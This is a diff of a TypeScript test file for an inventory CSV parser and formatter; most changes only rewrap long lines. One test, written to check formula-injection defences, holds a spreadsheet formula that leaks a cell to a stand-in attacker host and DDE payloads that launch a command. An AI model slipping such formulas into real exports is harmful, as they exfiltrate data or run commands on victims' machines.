@@ -8,7 +8,8 @@ import { parseInventoryYaml } from '../../src/patching/inventory-yaml.js';
 import type { InventoryDocument } from '../../src/patching/inventory.js';
 import { DAY, HOUR, inventory, patch, system } from '../support/inventory-fixture.js';
 
-const fixture = (name: string): string => readFileSync(new URL(`../fixtures/inventory/${name}`, import.meta.url), 'utf8');
+const fixture = (name: string): string =>
+  readFileSync(new URL(`../fixtures/inventory/${name}`, import.meta.url), 'utf8');
 const csv = (...rows: string[]): string => `${rows.join('\n')}\n`;
 
 function problemsOf(text: string, source = 'inventory.csv'): readonly InventoryProblem[] {
@@ -22,9 +23,11 @@ function problemsOf(text: string, source = 'inventory.csv'): readonly InventoryP
 }
 
 const PEOPLE_HEADER = 'handle,name,slack,teams,timeZone,manager,workingDays,workingHours';
-const SYSTEMS_HEADER = 'name,kind,criticality,owner,slackChannel,teamsChannel,policy,maintenanceWindows,freezes,dependsOn';
+const SYSTEMS_HEADER =
+  'name,kind,criticality,owner,slackChannel,teamsChannel,policy,maintenanceWindows,freezes,dependsOn';
 const PATCHES_HEADER = 'system,title,advisory,severity,released,due';
-const SYSTEM_ROW = (name: string, rest = ''): string => `${name},mail-server,high,alice,C0123ABCD,,standard,${rest || ',,'}`;
+const SYSTEM_ROW = (name: string, rest = ''): string =>
+  `${name},mail-server,high,alice,C0123ABCD,,standard,${rest || ',,'}`;
 
 describe('parseInventoryCsv: the fixtures', () => {
   it('reads people, with the default working hours for empty cells', () => {
@@ -69,8 +72,15 @@ describe('parseInventoryCsv: the fixtures', () => {
       freezes: [{ from: Date.UTC(2026, 11, 15), to: Date.UTC(2027, 0, 6), reason: 'year-end freeze' }],
       dependsOn: ['dns-1', 'dns-2'],
     });
-    expect(doc.systems[1]?.maintenanceWindows).toEqual([{ days: [1, 2, 3, 4, 5], startMinute: 300, durationMs: 30 * 60_000, timeZone: 'Europe/London' }]);
-    expect(doc.systems[2]).toMatchObject({ channel: { slack: 'C0456EFGH' }, maintenanceWindows: [], freezes: [], dependsOn: [] });
+    expect(doc.systems[1]?.maintenanceWindows).toEqual([
+      { days: [1, 2, 3, 4, 5], startMinute: 300, durationMs: 30 * 60_000, timeZone: 'Europe/London' },
+    ]);
+    expect(doc.systems[2]).toMatchObject({
+      channel: { slack: 'C0456EFGH' },
+      maintenanceWindows: [],
+      freezes: [],
+      dependsOn: [],
+    });
   });
 
   it('reads patches, a quoted title spanning two lines included', () => {
@@ -84,7 +94,12 @@ describe('parseInventoryCsv: the fixtures', () => {
         releasedAt: Date.UTC(2026, 9, 1),
         dueAt: Date.UTC(2026, 9, 8),
       },
-      { system: 'dns-1', title: 'Kernel update for the resolver host\n(reboot needed)', severity: 'low', releasedAt: Date.UTC(2026, 8, 28, 6) },
+      {
+        system: 'dns-1',
+        title: 'Kernel update for the resolver host\n(reboot needed)',
+        severity: 'low',
+        releasedAt: Date.UTC(2026, 8, 28, 6),
+      },
     ]);
   });
 });
@@ -92,7 +107,13 @@ describe('parseInventoryCsv: the fixtures', () => {
 describe('parseInventoryCsv: cells and headers', () => {
   it('matches header names in any case and leaves optional columns out', () => {
     const doc = parseInventoryCsv(csv('Handle,NAME,timezone', 'alice,Alice,utc'));
-    expect(doc.people[0]).toStrictEqual({ handle: 'alice', name: 'Alice', chat: {}, timeZone: 'UTC', workingHours: { days: [1, 2, 3, 4, 5], startMinute: 540, endMinute: 1080 } });
+    expect(doc.people[0]).toStrictEqual({
+      handle: 'alice',
+      name: 'Alice',
+      chat: {},
+      timeZone: 'UTC',
+      workingHours: { days: [1, 2, 3, 4, 5], startMinute: 540, endMinute: 1080 },
+    });
   });
 
   it.each([
@@ -101,13 +122,17 @@ describe('parseInventoryCsv: cells and headers', () => {
     ['sat-mon', '22:00 - 24:00', { days: [1, 6, 7], startMinute: 1320, endMinute: 1440 }],
     ['', '07:30-16:00', { days: [1, 2, 3, 4, 5], startMinute: 450, endMinute: 960 }],
   ])('workingDays %j, workingHours %j', (days, hours, expected) => {
-    const doc = parseInventoryCsv(csv('handle,name,timeZone,workingDays,workingHours', `alice,Alice,UTC,"${days}",${hours}`));
+    const doc = parseInventoryCsv(
+      csv('handle,name,timeZone,workingDays,workingHours', `alice,Alice,UTC,"${days}",${hours}`),
+    );
     expect(doc.people[0]?.workingHours).toEqual(expected);
   });
 
   it('reads window days written with spaces', () => {
     const doc = parseInventoryCsv(csv(SYSTEMS_HEADER, SYSTEM_ROW('mx-1', '"sat, sun 22:00+4h UTC",,')));
-    expect(doc.systems[0]?.maintenanceWindows).toEqual([{ days: [6, 7], startMinute: 1320, durationMs: 4 * HOUR, timeZone: 'UTC' }]);
+    expect(doc.systems[0]?.maintenanceWindows).toEqual([
+      { days: [6, 7], startMinute: 1320, durationMs: 4 * HOUR, timeZone: 'UTC' },
+    ]);
   });
 
   it('tolerates a trailing list separator, CRLF line ends and a byte-order mark', () => {
@@ -122,7 +147,12 @@ describe('parseInventoryCsv: cells and headers', () => {
   });
 
   it('reads a header with no rows as an empty document of that kind', () => {
-    expect(parseInventoryCsv(csv(PATCHES_HEADER))).toStrictEqual({ people: [], policies: [], systems: [], patches: [] });
+    expect(parseInventoryCsv(csv(PATCHES_HEADER))).toStrictEqual({
+      people: [],
+      policies: [],
+      systems: [],
+      patches: [],
+    });
   });
 });
 
@@ -130,7 +160,13 @@ describe('parseInventoryCsv: problems', () => {
   it.each<[string, string, InventoryProblem[]]>([
     [
       'a missing owner (line 5)',
-      csv(SYSTEMS_HEADER, SYSTEM_ROW('a'), SYSTEM_ROW('b'), SYSTEM_ROW('c'), 'd,mail-server,high,,C0123ABCD,,standard,,,'),
+      csv(
+        SYSTEMS_HEADER,
+        SYSTEM_ROW('a'),
+        SYSTEM_ROW('b'),
+        SYSTEM_ROW('c'),
+        'd,mail-server,high,,C0123ABCD,,standard,,,',
+      ),
       [{ line: 5, field: 'owner', message: 'required' }],
     ],
     [
@@ -141,14 +177,28 @@ describe('parseInventoryCsv: problems', () => {
     [
       'a problem in a quoted cell spanning lines: its first line',
       csv(PATCHES_HEADER, 'mx-1,"two', 'lines",,low,someday,'),
-      [{ line: 2, field: 'released', message: 'must be a date YYYY-MM-DD or a date-time such as 2026-10-01T09:30Z (got "someday")' }],
+      [
+        {
+          line: 2,
+          field: 'released',
+          message: 'must be a date YYYY-MM-DD or a date-time such as 2026-10-01T09:30Z (got "someday")',
+        },
+      ],
     ],
     [
       'maintenance windows',
       csv(SYSTEMS_HEADER, SYSTEM_ROW('mx-1', '"sat,sun 22:00+4h Mars/Base; wed 2am UTC; thu 01:00+0h UTC",,')),
       [
-        { line: 2, field: 'maintenanceWindows[1]', message: 'must look like "sat,sun 22:00+4h Europe/Berlin" (got "wed 2am UTC")' },
-        { line: 2, field: 'maintenanceWindows[0]', message: 'must be an IANA time zone such as Europe/Berlin or UTC (got "Mars/Base")' },
+        {
+          line: 2,
+          field: 'maintenanceWindows[1]',
+          message: 'must look like "sat,sun 22:00+4h Europe/Berlin" (got "wed 2am UTC")',
+        },
+        {
+          line: 2,
+          field: 'maintenanceWindows[0]',
+          message: 'must be an IANA time zone such as Europe/Berlin or UTC (got "Mars/Base")',
+        },
         { line: 2, field: 'maintenanceWindows[2]', message: '"0h" is not a duration: it must be longer than zero' },
       ],
     ],
@@ -156,19 +206,32 @@ describe('parseInventoryCsv: problems', () => {
       'freezes',
       csv(SYSTEMS_HEADER, SYSTEM_ROW('mx-1', ',2026-12-15 to 2027-01-05; 2026-12-15..2026-12-01 oops,')),
       [
-        { line: 2, field: 'freezes[0]', message: 'must look like "2026-12-15..2027-01-05 year-end freeze" (got "2026-12-15 to 2027-01-05")' },
+        {
+          line: 2,
+          field: 'freezes[0]',
+          message: 'must look like "2026-12-15..2027-01-05 year-end freeze" (got "2026-12-15 to 2027-01-05")',
+        },
         { line: 2, field: 'freezes[1]', message: 'must be after from, 2026-12-15' },
       ],
     ],
     [
       'working days and hours',
-      csv('handle,name,timeZone,workingDays,workingHours', 'a,A,UTC,mon-fry,09:00', 'b,B,UTC,,9-18', 'c,C,UTC,,18:00-09:00'),
+      csv(
+        'handle,name,timeZone,workingDays,workingHours',
+        'a,A,UTC,mon-fry,09:00',
+        'b,B,UTC,,9-18',
+        'c,C,UTC,,18:00-09:00',
+      ),
       [
         { line: 2, field: 'workingHours', message: 'must be a range such as 09:00-18:00 (got "09:00")' },
         { line: 2, field: 'workingDays', message: 'must be a weekday: mon, tue, wed, thu, fri, sat, sun (got "fry")' },
         { line: 3, field: 'workingHours', message: 'must be a time HH:MM from 00:00 to 23:59 (got "9")' },
         { line: 3, field: 'workingHours', message: 'must be a time HH:MM from 00:00 to 24:00 (got "18")' },
-        { line: 4, field: 'workingHours', message: 'must be after the start, 18:00 (working hours cannot span midnight)' },
+        {
+          line: 4,
+          field: 'workingHours',
+          message: 'must be after the start, 18:00 (working hours cannot span midnight)',
+        },
       ],
     ],
     [
@@ -202,7 +265,12 @@ describe('parseInventoryCsv: problems', () => {
       'an unknown and a missing column',
       csv('name,kind,critcality,owner,slackChannel,policy', 'mx-1,mail-server,high,alice,C0123ABCD,standard'),
       [
-        { line: 1, field: 'critcality', message: 'unknown column for systems (expected name,kind,criticality,owner,slackChannel,teamsChannel,policy,maintenanceWindows,freezes,dependsOn)' },
+        {
+          line: 1,
+          field: 'critcality',
+          message:
+            'unknown column for systems (expected name,kind,criticality,owner,slackChannel,teamsChannel,policy,maintenanceWindows,freezes,dependsOn)',
+        },
         { line: 1, field: 'criticality', message: 'required column missing from the systems header' },
       ],
     ],
@@ -219,8 +287,24 @@ describe('parseInventoryCsv: problems', () => {
       csv('handle,name,timeZone,', 'a,A,UTC,'),
       [{ line: 1, field: '', message: 'column 4 has no name' }],
     ],
-    ['an unclosed quote, at the line it opens', csv(PATCHES_HEADER, 'mx-1,"unfinished,,low,2026-10-01,'), [{ line: 2, field: '', message: expect.stringMatching(/^CSV syntax: Quote Not Closed/) as unknown as string }]],
-    ['an empty file', '', [{ line: 1, field: '', message: expect.stringMatching(/^is empty: a header row is required \(expected columns for people: handle,/) as unknown as string }]],
+    [
+      'an unclosed quote, at the line it opens',
+      csv(PATCHES_HEADER, 'mx-1,"unfinished,,low,2026-10-01,'),
+      [{ line: 2, field: '', message: expect.stringMatching(/^CSV syntax: Quote Not Closed/) as unknown as string }],
+    ],
+    [
+      'an empty file',
+      '',
+      [
+        {
+          line: 1,
+          field: '',
+          message: expect.stringMatching(
+            /^is empty: a header row is required \(expected columns for people: handle,/,
+          ) as unknown as string,
+        },
+      ],
+    ],
   ])('%s', (_name, text, expected) => {
     expect(problemsOf(text)).toEqual(expected);
   });
@@ -231,25 +315,44 @@ describe('parseInventoryCsv: problems', () => {
       'systems: name,kind,criticality,owner,slackChannel,teamsChannel,policy,maintenanceWindows,freezes,dependsOn',
       'patches: system,title,advisory,severity,released,due (policies only exist in YAML)',
     ].join('; ');
-    expect(problemsOf(csv('name,sla,levels', 'standard,7d,owner'), 'policies.csv')).toEqual([{ line: 1, field: '', message: `header row matches no inventory kind: ${expected}` }]);
+    expect(problemsOf(csv('name,sla,levels', 'standard,7d,owner'), 'policies.csv')).toEqual([
+      { line: 1, field: '', message: `header row matches no inventory kind: ${expected}` },
+    ]);
     expect(problemsOf(csv('handle;name;timeZone', 'a;A;UTC'))).toEqual([
-      { line: 1, field: '', message: `header row matches no inventory kind (separate columns with commas, not semicolons): ${expected}` },
+      {
+        line: 1,
+        field: '',
+        message: `header row matches no inventory kind (separate columns with commas, not semicolons): ${expected}`,
+      },
     ]);
   });
 
   it('throws one BAD_INPUT error listing source:line: field: problem', () => {
-    const text = csv(SYSTEMS_HEADER, SYSTEM_ROW('a'), SYSTEM_ROW('b'), SYSTEM_ROW('c'), 'd,mail-server,urgent,,C0123ABCD,,standard,,,');
+    const text = csv(
+      SYSTEMS_HEADER,
+      SYSTEM_ROW('a'),
+      SYSTEM_ROW('b'),
+      SYSTEM_ROW('c'),
+      'd,mail-server,urgent,,C0123ABCD,,standard,,,',
+    );
     expect(() => parseInventoryCsv(text, 'systems.csv')).toThrow(
       expect.objectContaining({
         code: 'BAD_INPUT',
-        message: ['systems.csv has 2 problems:', 'systems.csv:5: criticality: must be one of critical, high, medium, low (got "urgent")', 'systems.csv:5: owner: required'].join('\n'),
+        message: [
+          'systems.csv has 2 problems:',
+          'systems.csv:5: criticality: must be one of critical, high, medium, low (got "urgent")',
+          'systems.csv:5: owner: required',
+        ].join('\n'),
       }),
     );
     expect(() => parseInventoryCsv(text, 'systems.csv')).toThrow(InventoryFileError);
   });
 
   it('leaves references to people and policies to the store: a systems file cannot resolve them', () => {
-    expect(parseInventoryCsv(csv(SYSTEMS_HEADER, 'mx-1,mail-server,high,nobody-here,C0123ABCD,,no-such-policy,,,')).systems[0]).toMatchObject({
+    expect(
+      parseInventoryCsv(csv(SYSTEMS_HEADER, 'mx-1,mail-server,high,nobody-here,C0123ABCD,,no-such-policy,,,'))
+        .systems[0],
+    ).toMatchObject({
       owner: 'nobody-here',
       policy: 'no-such-policy',
     });
@@ -257,9 +360,15 @@ describe('parseInventoryCsv: problems', () => {
 
   it('refuses binary and oversized input', () => {
     expect(problemsOf('PK\u0003\u0004\u0014\u0000\u0006\u0000', 'people.xlsx')).toEqual([
-      { line: 1, field: '', message: 'is not UTF-8 text (found a binary or undecodable character): save it as UTF-8 YAML or CSV' },
+      {
+        line: 1,
+        field: '',
+        message: 'is not UTF-8 text (found a binary or undecodable character): save it as UTF-8 YAML or CSV',
+      },
     ]);
-    expect(() => parseInventoryCsv(`${PATCHES_HEADER}\n${'x'.repeat(MAX_INVENTORY_BYTES)}`, 'patches.csv')).toThrow(/^patches\.csv has 1 problem:\npatches\.csv: is larger than 10 MB/);
+    expect(() => parseInventoryCsv(`${PATCHES_HEADER}\n${'x'.repeat(MAX_INVENTORY_BYTES)}`, 'patches.csv')).toThrow(
+      /^patches\.csv has 1 problem:\npatches\.csv: is larger than 10 MB/,
+    );
   });
 });
 
@@ -267,8 +376,21 @@ describe('formatInventoryCsv', () => {
   const EXAMPLE = parseInventoryYaml(fixture('example.yaml'));
   const EDGES: InventoryDocument = {
     people: [
-      { handle: 'n', name: 'Night, "the" shift', chat: {}, timeZone: 'Asia/Kolkata', workingHours: { days: [1, 3, 6, 7], startMinute: 0, endMinute: 1440 } },
-      { handle: 'm', name: 'M', chat: { slack: 'W123', teams: 'aad-m' }, timeZone: 'UTC', workingHours: { days: [2, 3, 4], startMinute: 1, endMinute: 2 }, manager: 'n' },
+      {
+        handle: 'n',
+        name: 'Night, "the" shift',
+        chat: {},
+        timeZone: 'Asia/Kolkata',
+        workingHours: { days: [1, 3, 6, 7], startMinute: 0, endMinute: 1440 },
+      },
+      {
+        handle: 'm',
+        name: 'M',
+        chat: { slack: 'W123', teams: 'aad-m' },
+        timeZone: 'UTC',
+        workingHours: { days: [2, 3, 4], startMinute: 1, endMinute: 2 },
+        manager: 'n',
+      },
     ],
     policies: [],
     systems: [
@@ -286,35 +408,67 @@ describe('formatInventoryCsv', () => {
       system('mx-2', { dependsOn: ['mx-1'], maintenanceWindows: [] }),
     ],
     patches: [
-      patch('mx-1', 'CVE-2026-0001', Date.UTC(2026, 2, 3, 4, 5, 6, 789), { dueAt: Date.UTC(2026, 2, 10), title: 'multi\nline, "title"' }),
+      patch('mx-1', 'CVE-2026-0001', Date.UTC(2026, 2, 3, 4, 5, 6, 789), {
+        dueAt: Date.UTC(2026, 2, 10),
+        title: 'multi\nline, "title"',
+      }),
       { system: 'mx-2', title: 'no advisory', severity: 'low', releasedAt: Date.UTC(1999, 11, 31) },
     ],
   };
   const kinds: CsvKind[] = ['people', 'systems', 'patches'];
 
-  it.each(kinds.flatMap((kind) => [['the example file', kind, EXAMPLE] as const, ['edge values', kind, EDGES] as const, ['the shared test inventory', kind, inventory({ patches: [patch('mail-gw-1', 'CVE-1', 0)] })] as const]))(
-    'round-trips %s: %s',
-    (_name, kind, doc) => {
-      const parsed = parseInventoryCsv(formatInventoryCsv(doc, kind));
-      expect(parsed[kind]).toStrictEqual(doc[kind]);
-      expect(Object.entries(parsed).filter(([key, entries]) => key !== kind && entries.length > 0)).toEqual([]);
-    },
-  );
+  it.each(
+    kinds.flatMap((kind) => [
+      ['the example file', kind, EXAMPLE] as const,
+      ['edge values', kind, EDGES] as const,
+      ['the shared test inventory', kind, inventory({ patches: [patch('mail-gw-1', 'CVE-1', 0)] })] as const,
+    ]),
+  )('round-trips %s: %s', (_name, kind, doc) => {
+    const parsed = parseInventoryCsv(formatInventoryCsv(doc, kind));
+    expect(parsed[kind]).toStrictEqual(doc[kind]);
+    expect(Object.entries(parsed).filter(([key, entries]) => key !== kind && entries.length > 0)).toEqual([]);
+  });
 
   it('writes the documented compact forms', () => {
     expect(formatInventoryCsv(EXAMPLE, 'systems').split('\n').slice(0, 2)).toEqual([
       SYSTEMS_HEADER,
       'mail-gw-1,mail-server,high,alice,C0123ABCD,19:abc@thread.tacv2,internet-facing,"sat,sun 22:00+4h Europe/Berlin; wed 02:00+1h UTC",2026-12-15..2027-01-05 year-end freeze,dns-1',
     ]);
-    expect(formatInventoryCsv(EXAMPLE, 'people').split('\n')[1]).toBe('alice,Alice Example,U012ABCDEF,00000000-0000-0000-0000-000000000001,Europe/Berlin,bob,mon-fri,08:30-17:00');
-    expect(formatInventoryCsv({ people: [], policies: [], systems: [], patches: [] }, 'people')).toBe(`${PEOPLE_HEADER}\n`);
+    expect(formatInventoryCsv(EXAMPLE, 'people').split('\n')[1]).toBe(
+      'alice,Alice Example,U012ABCDEF,00000000-0000-0000-0000-000000000001,Europe/Berlin,bob,mon-fri,08:30-17:00',
+    );
+    expect(formatInventoryCsv({ people: [], policies: [], systems: [], patches: [] }, 'people')).toBe(
+      `${PEOPLE_HEADER}\n`,
+    );
   });
 
   it('writes cells a spreadsheet would run as formulas with a leading quote, and imports them back unchanged', () => {
-    const titles = ['=HYPERLINK("http://evil.example/?leak="&A1,"Fix")', '@SUM(1+1)*cmd|" /C calc"!A0', '+1 day', '-5', '-rc2 rebuild', "'=quoted on purpose", "it's fine", '\uFF1Dwide'];
+    const titles = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Fix")',
+      '@SUM(1+1)*cmd|" /C calc"!A0',
+      '+1 day',
+      '-5',
+      '-rc2 rebuild',
+      "'=quoted on purpose",
+      "it's fine",
+      '\uFF1Dwide',
+    ];
     const doc = inventory({
-      people: [{ handle: 'eve', name: '=cmd|\' /C calc\'!A0', chat: {}, timeZone: 'UTC', workingHours: { days: [1, 2, 3, 4, 5], startMinute: 540, endMinute: 1080 } }],
-      patches: titles.map((title, index) => patch('mail-gw-1', `CVE-2026-${index}`, Date.UTC(2026, 0, 1), { title, advisory: index === 0 ? '-1' : `CVE-2026-${index}` })),
+      people: [
+        {
+          handle: 'eve',
+          name: "=cmd|' /C calc'!A0",
+          chat: {},
+          timeZone: 'UTC',
+          workingHours: { days: [1, 2, 3, 4, 5], startMinute: 540, endMinute: 1080 },
+        },
+      ],
+      patches: titles.map((title, index) =>
+        patch('mail-gw-1', `CVE-2026-${index}`, Date.UTC(2026, 0, 1), {
+          title,
+          advisory: index === 0 ? '-1' : `CVE-2026-${index}`,
+        }),
+      ),
     });
     const written = formatInventoryCsv(doc, 'patches');
     expect(written.split('\n').slice(1, 9)).toEqual([
@@ -334,14 +488,27 @@ describe('formatInventoryCsv', () => {
   });
 
   it('reads a hand-written cell with one quote before a formula character as the spreadsheet showed it', () => {
-    const doc = parseInventoryCsv(csv(PATCHES_HEADER, "mail-gw-1,'=1+1,,low,2026-01-01,", "mail-gw-1,'just a quote,,low,2026-01-01,", 'mail-gw-1,-5,,low,2026-01-01,'));
+    const doc = parseInventoryCsv(
+      csv(
+        PATCHES_HEADER,
+        "mail-gw-1,'=1+1,,low,2026-01-01,",
+        "mail-gw-1,'just a quote,,low,2026-01-01,",
+        'mail-gw-1,-5,,low,2026-01-01,',
+      ),
+    );
     expect(doc.patches.map((p) => p.title)).toEqual(['=1+1', "'just a quote", '-5']);
   });
 
   it('refuses a freeze reason that the CSV list separator would split', () => {
-    const doc = inventory({ systems: [system('mx-1', { freezes: [{ from: 0, to: DAY, reason: 'audit; then holidays' }] })] });
+    const doc = inventory({
+      systems: [system('mx-1', { freezes: [{ from: 0, to: DAY, reason: 'audit; then holidays' }] })],
+    });
     expect(() => formatInventoryCsv(doc, 'systems')).toThrow(
-      expect.objectContaining({ code: 'BAD_INPUT', message: 'system mx-1: the freeze reason "audit; then holidays" contains ";", which CSV cannot hold: export as YAML' }),
+      expect.objectContaining({
+        code: 'BAD_INPUT',
+        message:
+          'system mx-1: the freeze reason "audit; then holidays" contains ";", which CSV cannot hold: export as YAML',
+      }),
     );
     expect(() => formatInventoryCsv(doc, 'systems')).toThrow(AppError);
   });
